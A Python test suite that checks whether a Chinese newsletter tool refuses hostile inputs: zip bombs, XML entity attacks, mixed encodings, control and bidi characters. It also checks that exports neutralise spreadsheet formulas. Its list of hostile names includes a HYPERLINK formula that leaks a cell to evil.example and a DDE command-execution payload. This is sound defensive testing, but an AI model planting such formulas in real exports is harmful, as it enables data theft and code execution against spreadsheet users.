"""Hostile and malformed input is refused at the door: the issue files and reader lists
users reported (a far cell, a zip bomb, millions of empty paragraphs, entities, mixed
encodings, control characters), each built as described, each refused with a Chinese
message naming the file and the line, row or part, exit code 1, nothing written. And
what an export writes is never a formula, yet imports back unchanged.

Speed and memory of these refusals are measured by bench/hostile.py, not here."""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable
from pathlib import Path

import hostile_files as h
import pytest
from conftest import SAMPLE_READERS
from openpyxl import load_workbook

from dispatch import cleantext, textfile
from dispatch.limits import EML_BYTES, MB, FileRefused, read_capped

SAMPLE_READER_COUNT = 26


def _sparse(size: int) -> Callable[[], bytes | int]:
    return lambda: size  # an int: make a sparse file of that many bytes (all zeros)


def _make(path: Path, build: Callable[[], bytes | int]) -> Path:
    return h.write(path, build())


def _error_line(stderr: str) -> str:
    """The refusal as printed, joined back if the console wrapped it."""
    return "".join(stderr.split("\n"))


# --- issue files -------------------------------------------------------------------------

MIXED_ISSUE = h.issue_lines(12)
NUL_ISSUE = "●行业动态\n未来产业是培育新质生产力的重要引擎\n第一段。\n第二\x00段。\n"
ESC_ISSUE = "●行业动态\n未来产业\x1b[31m是培育新质生产力的重要引擎\n第一段。\n"
BIDI_ISSUE = "# 行业动态\n\n## 未来产业\u202e是培育新质生产力的重要引擎\n\n第一段。\n"
LONG_FRONT_MATTER = "---\n" + "".join(f"key{i}: {i}\n" for i in range(101)) + "---\n# 栏目\n## 标题\n正文。\n"


def _front_matter(title_yaml: str) -> str:
    return f"---\nnumber: 3\ntitle: {title_yaml}\n---\n# 行业动态\n## 文章标题\n正文。\n"


BAD_ISSUES = [
    # (file name, builder, line, words the message must carry)
    ("huge.txt", _sparse(20 * MB + 1), None, ["文件过大", "期刊文件最大 20 MB"]),
    ("big.md", lambda: ("# 栏目\n## 标题\n" + "正文。" * (5 * MB // 9 + 1)).encode(), None,
     ["文件过大", "文本或 Markdown 期刊文件最大 5 MB"]),
    ("huge.docx", _sparse(21 * MB), None, ["文件过大（21 MB）"]),
    ("empty-paragraphs.docx", h.docx_empty_paragraphs, None,
     ["word/document.xml", "压缩比异常", "压缩炸弹"]),
    ("many-paragraphs.docx", h.docx_many_paragraphs, None, ["段落过多", "20000"]),
    ("many-elements.docx", h.docx_many_elements, None, ["XML 元素超过 500000 个"]),
    ("billion-laughs.docx", h.docx_billion_laughs, None, ["word/document.xml", "DOCTYPE"]),
    ("external-entity.docx", h.docx_external_entity, None, ["word/document.xml", "DOCTYPE"]),
    ("many-entries.docx", lambda: h.many_entries(h.docx()), None, ["条目过多", "最多 2000 个"]),
    ("lying-sizes.docx", lambda: h.lying_sizes(h.docx()), None, ["解压后过大", "50 MB"]),
    ("mixed.txt", lambda: h.mixed_encoding(MIXED_ISSUE, 10), 10, ["不是 UTF-8", "如第 1 行"]),
    ("mixed-bom.md", lambda: b"\xef\xbb\xbf" + h.mixed_encoding(MIXED_ISSUE, 4), 4,
     ["BOM", "UTF-8"]),
    ("nul.txt", lambda: NUL_ISSUE.encode(), 4, ["U+0000", "NUL"]),
    ("esc-title.txt", lambda: ESC_ISSUE.encode(), 2, ["U+001B", "ESC"]),
    ("bidi-title.md", lambda: BIDI_ISSUE.encode(), 3, ["文字方向", "U+202E"]),
    ("esc-front-matter.md", lambda: _front_matter('"许昌\\e[2J竞争情报快递"').encode(), 3,
     ["U+001B"]),
    ("nul-front-matter.md", lambda: _front_matter('"许昌\\0竞争情报快递"').encode(), 3,
     ["U+0000"]),
    ("raw-esc-front-matter.md", lambda: _front_matter("许昌\x1b竞争情报快递").encode(), 3,
     ["U+001B"]),
    ("long-front-matter.md", lambda: LONG_FRONT_MATTER.encode(), 1, ["front matter", "过长"]),
    ("many-lines.txt", lambda: ("●栏目\n标题\n" + "正文。\n" * 50_000).encode(), None,
     ["行数过多", "最多 50000 行"]),
]


@pytest.mark.parametrize(("name", "build", "line", "words"), BAD_ISSUES,
                         ids=[b[0] for b in BAD_ISSUES])
def test_hostile_issue_file_is_refused_naming_file_and_line(dispatch_sqlite, tmp_path, name,
                                                            build, line, words):
    path = _make(tmp_path / name, build)
    r = dispatch_sqlite("issues", "ingest", str(path))
    assert r.exit_code == 1, r.stdout
    message = _error_line(r.stderr)
    where = f"{path}:{line}: " if line else f"{path}: "
    assert where in message, message
    for word in words:
        assert word in message, message
    assert "Traceback" not in message
    assert json.loads(dispatch_sqlite.ok("issues", "list", "--json")) == []


@pytest.mark.parametrize("name", ["nul-title.md", "nul-paragraph.txt"])
def test_nul_is_refused_before_the_database_on_both_kinds(dispatch, tmp_path, name):
    """PostgreSQL can't store a NUL: it used to end in a traceback."""
    text = (_front_matter('"许昌\\0竞争情报快递"') if name.endswith(".md") else NUL_ISSUE)
    path = _make(tmp_path / name, lambda: text.encode())
    r = dispatch("issues", "ingest", str(path))
    assert r.exit_code == 1 and "U+0000" in r.stderr and "Traceback" not in r.stderr
    assert f"{path}:{3 if name.endswith('.md') else 4}: " in _error_line(r.stderr)
    assert json.loads(dispatch.ok("issues", "list", "--json")) == []


def test_issue_file_that_is_a_pipe_is_refused_without_waiting(dispatch_sqlite, tmp_path):
    path = tmp_path / "issue.txt"
    os.mkfifo(path)
    r = dispatch_sqlite("issues", "ingest", str(path))
    assert r.exit_code == 1 and "不是普通文件" in r.stderr and str(path) in r.stderr


def test_line_breaks_in_titles_become_spaces_and_every_email_can_be_built(dispatch_sqlite,
                                                                         tmp_path):
    """A title with CR LF, U+2028 or a tab is stored as one line: the subject of every
    email, the terminal and the web page all get one line."""
    d = dispatch_sqlite
    d.ok("recipients", "import", str(SAMPLE_READERS))
    md = _make(tmp_path / "crlf.md", lambda: (
        "---\nnumber: 3\ntitle: \"许昌\\r\\n竞争情报快递\"\n---\n"
        "# 行业\u2028动态\n## 未来产业\t是培育\u200b新质生产力的重要引擎\n正文。\n"
    ).encode())
    issue = json.loads(d.ok("issues", "ingest", str(md), "--json"))
    shown = json.loads(d.ok("issues", "show", str(issue["id"]), "--json"))
    assert shown["title"] == "许昌 竞争情报快递"
    assert shown["sections"][0]["title"] == "行业 动态"
    assert shown["sections"][0]["articles"][0]["title"] == "未来产业 是培育新质生产力的重要引擎"
    eml = d.ok("preview", str(issue["id"]), "--recipient", "lihongmei@example.gov.cn",
               "--format", "eml")
    assert "Subject: " in eml

    word = _make(tmp_path / "title.docx", lambda: h.docx([
        ("Title", "许昌\u2028竞争情报快递"), ("Heading 1", "行业动态"),
        ("Heading 2", "文章\u2029标题"), (None, "正文。"),
    ]))
    issue = json.loads(d.ok("issues", "ingest", str(word), "--json"))
    shown = json.loads(d.ok("issues", "show", str(issue["id"]), "--json"))
    assert shown["title"] == "许昌 竞争情报快递"
    assert shown["sections"][0]["articles"][0]["title"] == "文章 标题"
    assert "Subject: " in d.ok("preview", str(issue["id"]), "--recipient",
                               "lihongmei@example.gov.cn", "--format", "eml")


def test_markup_that_never_closes_stays_text_on_long_lines(dispatch_sqlite, tmp_path):
    """Openings without a close (emphasis, links, comments, code) on long lines: each
    used to be searched for to the end of the line, for every opening (minutes)."""
    lines = ["*a " * 20_000, "[a](x" * 20_000, "<http:a" * 20_000, "a" + "`" * 20_000,
             "~~a " * 20_000, "来源：新华社" + " " * 200 + "b",
             "<!--a" * 20_000]  # a comment that never closes: the rest of the file
    text = "# 行业动态\n## 标题\n\n" + "\n\n".join(lines) + "\n"
    path = _make(tmp_path / "unclosed.md", lambda: text.encode())
    issue = json.loads(dispatch_sqlite.ok("issues", "ingest", str(path), "--json"))
    article = issue["sections"][0]["articles"][0]
    assert article["title"] == "标题"
    assert article["source"].startswith("新华社") and article["source"].endswith("b")
    # A source longer than the table keeps (300): refused, where it is, on either database.
    long = _make(tmp_path / "long.md", lambda: text.replace(" " * 200, " " * 100_000).encode())
    refused = dispatch_sqlite("issues", "ingest", str(long))
    assert refused.exit_code == 1 and "long.md:2: 文章“标题”的来源过长（100004 个字，最多 300 个）" in refused.stderr


def test_wholly_gbk_issue_is_still_read(dispatch_sqlite, tmp_path):
    path = _make(tmp_path / "gbk.txt", lambda: "\n".join(MIXED_ISSUE).encode("gbk"))
    issue = json.loads(dispatch_sqlite.ok("issues", "ingest", str(path), "--json"))
    assert issue["sections"][0]["articles"][0]["title"] == "未来产业是培育新质生产力的重要引擎"


# --- reader lists ------------------------------------------------------------------------

MIXED_READERS = h.reader_lines(12)
# A quoted cell over two physical lines: line 11 of the file is row 10 in Excel.
MULTILINE_READERS = [MIXED_READERS[0], '读者,"许昌市', '某单位",,,multi@example.gov.cn,,新材料,',
                     *MIXED_READERS[2:]]
NUL_READERS = h.READER_HEADER + "张三,许昌,,,z@example.com,,食品,\n李\x00四,许昌,,,l@example.com,,食品,\n"
ESC_READERS = h.READER_HEADER + "张三,许昌\x1b[2J,,,z@example.com,,食品,\n"
BIDI_READERS = h.READER_HEADER + "张三,许昌\u202e司公,,,z@example.com,,食品,\n"
WIDE_READERS = h.READER_HEADER + "张三,许昌,,,z@example.com,,食品,\n" + "," * 100_000 + "\n"
UNCLOSED_READERS = h.READER_HEADER + '张三,"许昌,,,z@example.com,,食品,\n' + "x\n" * 200


def _csv(text: str) -> Callable[[], bytes]:
    return lambda: text.encode()


BAD_LISTS = [
    # (file name, builder, row, column, words)
    ("huge.csv", _sparse(20 * MB + 1), None, None, ["文件过大", "读者名单最大 20 MB"]),
    ("huge.xlsx", _sparse(60 * MB), None, None, ["文件过大（60 MB）"]),
    ("far-cell.xlsx", h.xlsx_far_cell, 1_048_576, None, ["XFD1048576", "最多 120000 行"]),
    ("lying-dimension.xlsx", h.xlsx_lying_dimension, 1_048_576, None, ["XFD1048576"]),
    ("many-rows.xlsx", lambda: h.xlsx_many_rows(120_001), 120_001, None,
     ["A120001", "最多 120000 行"]),
    ("formatted-cells.xlsx", h.xlsx_formatted_cells, None, None, ["超过 2000000 个 XML 元素"]),
    ("shared-strings.xlsx", h.xlsx_large_shared_strings, None, None,
     ["xl/sharedStrings.xml", "解压后过大（59 MB，最多 50 MB）"]),
    ("zip-bomb.xlsx", h.xlsx_zip_bomb, None, None, ["xl/worksheets/sheet1.xml", "压缩比异常"]),
    ("billion-laughs.xlsx", h.xlsx_billion_laughs, None, None, ["xl/workbook.xml", "DOCTYPE"]),
    ("external-entity.xlsx", h.xlsx_external_entity, None, None, ["sheet1.xml", "DOCTYPE"]),
    ("many-entries.xlsx", lambda: h.many_entries(h.xlsx_list([["姓名"]])), None, None,
     ["条目过多"]),
    ("mixed.csv", lambda: h.mixed_encoding(MIXED_READERS, 10), 10, None,
     ["不是 UTF-8", "GBK"]),
    ("mixed-multiline.csv", lambda: h.mixed_encoding(MULTILINE_READERS, 11), 10, None,
     ["不是 UTF-8"]),
    ("nul.csv", _csv(NUL_READERS), 3, "姓名", ["U+0000"]),
    ("esc.csv", _csv(ESC_READERS), 2, "单位", ["U+001B", "ESC"]),
    ("bidi.csv", _csv(BIDI_READERS), 2, "单位", ["文字方向", "U+202E"]),
    ("wide.csv", _csv(WIDE_READERS), 3, None, ["分隔符过多"]),
    ("unclosed-quote.csv", _csv(UNCLOSED_READERS), 2, None, ["双引号"]),
    ("many-rows.csv", lambda: "\n".join(h.reader_lines(120_000)).encode(), 120_001, None,
     ["行数过多", "120000"]),
]


@pytest.mark.parametrize(("name", "build", "row", "column", "words"), BAD_LISTS,
                         ids=[b[0] for b in BAD_LISTS])
def test_hostile_reader_list_is_refused_naming_file_and_row(dispatch_sqlite, tmp_path, name,
                                                            build, row, column, words):
    d = dispatch_sqlite
    d.ok("recipients", "import", str(SAMPLE_READERS))
    before = json.loads(d.ok("recipients", "list", "--json"))
    path = _make(tmp_path / name, build)
    r = d("recipients", "import", str(path), "--dry-run", "--json")
    assert r.exit_code == 1
    data = json.loads(r.stdout)
    assert (data["added"], data["updated"], data["unchanged"]) == (0, 0, 0)
    error = data["errors"][0]
    assert (error["file"], error["row"], error["column"]) == (str(path), row, column), error
    for word in words:
        assert word in error["message"], error
    r = d("recipients", "import", str(path))
    assert r.exit_code == 1 and "没有写入任何内容" in r.stderr and "Traceback" not in r.stderr
    assert str(path) in _error_line(r.stderr)
    assert json.loads(d.ok("recipients", "list", "--json")) == before


def test_reader_list_that_is_a_pipe_is_refused_without_waiting(dispatch_sqlite, tmp_path):
    path = tmp_path / "list.csv"
    os.mkfifo(path)
    r = dispatch_sqlite("recipients", "import", str(path), "--json")
    assert r.exit_code == 1
    assert "不是普通文件" in json.loads(r.stdout)["errors"][0]["message"]


def test_workbook_that_declares_a_huge_area_but_holds_a_list_is_read(dispatch_sqlite, tmp_path):
    """Formatting a whole column makes the sheet declare a million rows: not refused, and
    not padded to that size either."""
    path = _make(tmp_path / "formatted.xlsx", lambda: h.xlsx_list(
        [h.READER_HEADER.strip().split(","), ["张三", "", "", "", "z@example.com", "", "新材料", ""]],
        far_formatting=True,
    ))
    r = dispatch_sqlite("recipients", "import", str(path), "--json")
    assert r.exit_code == 0, r.stdout
    assert json.loads(r.stdout)["added"] == 1


# --- exports: never a formula, and back unchanged ---------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=1+1",  # legitimate values that start with the neutralising quote or a dash
    "'quoted",
    "''",
    "-",
]


def test_export_neutralises_formulas_and_imports_back_unchanged(dispatch, tmp_path):
    for i, name in enumerate(HOSTILE_NAMES):
        dispatch.ok("recipients", "add", f"--name={name}", f"--email=r{i}@example.com",
                    "--industries=食品", f"--org={name}", "--position=-", f"--group=@{i}")
    before = json.loads(dispatch.ok("recipients", "list", "--json"))
    assert sorted(r["name"] for r in before) == sorted(HOSTILE_NAMES)

    out_csv, out_xlsx = tmp_path / "export.csv", tmp_path / "export.xlsx"
    dispatch.ok("recipients", "export", str(out_csv))
    dispatch.ok("recipients", "export", str(out_xlsx))

    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells
    assert "'-" in cells and "''=1+1" in cells and "'quoted" not in cells

    ws = load_workbook(out_xlsx).active
    values = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert values and all(c.data_type == "s" for c in values)
    assert not [c.value for c in values if str(c.value).startswith(("=", "+", "-", "@"))]

    for path in (out_csv, out_xlsx):
        r = dispatch("recipients", "import", str(path), "--json")
        assert r.exit_code == 0, r.stdout
        data = json.loads(r.stdout)
        assert (data["added"], data["updated"], data["unchanged"]) == (0, 0, len(HOSTILE_NAMES))
        assert json.loads(dispatch.ok("recipients", "list", "--json")) == before


# --- the rules themselves ----------------------------------------------------------------


def test_eml_over_its_limit_is_refused_before_reading(tmp_path):
    path = _make(tmp_path / "reply.eml", _sparse(EML_BYTES + 1))
    with pytest.raises(FileRefused, match="文件过大（25 MB）：邮件最大 25 MB"):
        read_capped(path, EML_BYTES, "邮件")
    path.write_bytes(b"Subject: ok\r\n\r\nbody\r\n")
    assert read_capped(path, EML_BYTES, "邮件").startswith(b"Subject")


@pytest.mark.parametrize(("text", "expected"), [
    ("许昌\r\n竞争情报快递", "许昌 竞争情报快递"),
    ("行业\u2028动态\u2029 \t标题", "行业 动态 标题"),
    ("\t标题\n", "标题"),
    ("零\u200b宽\ufeff字\u00ad符", "零宽字符"),
    ("普通文字 with spaces", "普通文字 with spaces"),
])
def test_clean_text_turns_breaks_into_one_space_and_drops_invisibles(text, expected):
    assert cleantext.clean(text) == expected


@pytest.mark.parametrize(("char", "words"), [
    ("\x00", ["U+0000", "NUL"]), ("\x1b", ["U+001B", "ESC"]), ("\x7f", ["U+007F"]),
    ("\x90", ["U+0090"]), ("\u202e", ["文字方向"]), ("\u2066", ["文字方向"]),
    ("\u2061", ["U+2061"]), ("\udc80", ["U+DC80"]),
])
def test_clean_text_refuses_other_controls_naming_them(char, words):
    with pytest.raises(cleantext.BadText) as caught:
        cleantext.clean(f"标{char}题")
    for word in words:
        assert word in caught.value.message


def test_reader_cells_refuse_line_breaks_instead():
    for text, word in (("张\n三", "换行"), ("张\u2028三", "换行"), ("张\t三", "制表符")):
        with pytest.raises(cleantext.BadText, match=word):
            cleantext.clean(text, breaks="refuse")


def test_one_decoder_for_every_text_file():
    lines = ["第一行：中文内容", "第二行：中文内容", "第三行：中文内容"]
    assert textfile.decode("\n".join(lines).encode("gb18030")) == "\n".join(lines)
    assert textfile.decode(b"\xef\xbb\xbf" + "中文".encode()) == "中文"
    assert textfile.decode("\ufeff中文\r\n".encode("utf-16-le")) == "中文\r\n"
    with pytest.raises(textfile.Undecodable) as caught:
        textfile.decode(h.mixed_encoding(lines, 3))
    assert (caught.value.problem, caught.value.line, caught.value.utf8_line) == ("mixed", 3, 1)
    # Line ends are LF, CRLF or CR alike.
    with pytest.raises(textfile.Undecodable) as caught:
        textfile.decode("中文内容\r中文内容\r".encode() + "中文".encode("gbk"))
    assert caught.value.line == 3
    with pytest.raises(textfile.Undecodable) as caught:
        textfile.decode(bytes(range(256)) * 4)
    assert (caught.value.problem, caught.value.line) == ("binary", None)


@pytest.mark.parametrize(("command", "name"), [
    (("issues", "ingest"), "x.txt"), (("recipients", "import"), "x.csv"),
    (("inbox", "classify"), "x.eml"),
])
def test_what_the_system_refuses_is_said_in_chinese(dispatch_sqlite, tmp_path, command, name):
    """The operating system's own reason (strerror) is English: a path through a file
    is refused with the Chinese words for it, and nothing English leaks."""
    from cli_language import english_words

    through_a_file = tmp_path / "名单" / name
    (tmp_path / "名单").write_text("not a folder", encoding="utf-8")
    r = dispatch_sqlite(*command, str(through_a_file))
    assert r.exit_code == 1, r.stdout + r.stderr
    # ingest looks before it reads: for it the file is simply not there.
    assert "路径中有一段不是文件夹" in r.stderr or "文件不存在" in r.stderr, r.stderr
    assert english_words(r.stderr.replace(str(through_a_file), "")) == [], r.stderr


def test_a_catcher_on_a_port_in_use_says_so_in_chinese(dispatch_sqlite):
    import socket

    from cli_language import english_words

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        r = dispatch_sqlite("catcher", "--listen", f"127.0.0.1:{port}",
                            "--dir", str(dispatch_sqlite.home / "mail"))
    assert r.exit_code == 1 and "端口已被占用" in r.stderr, r.stderr
    assert english_words(r.stderr) == [], r.stderr
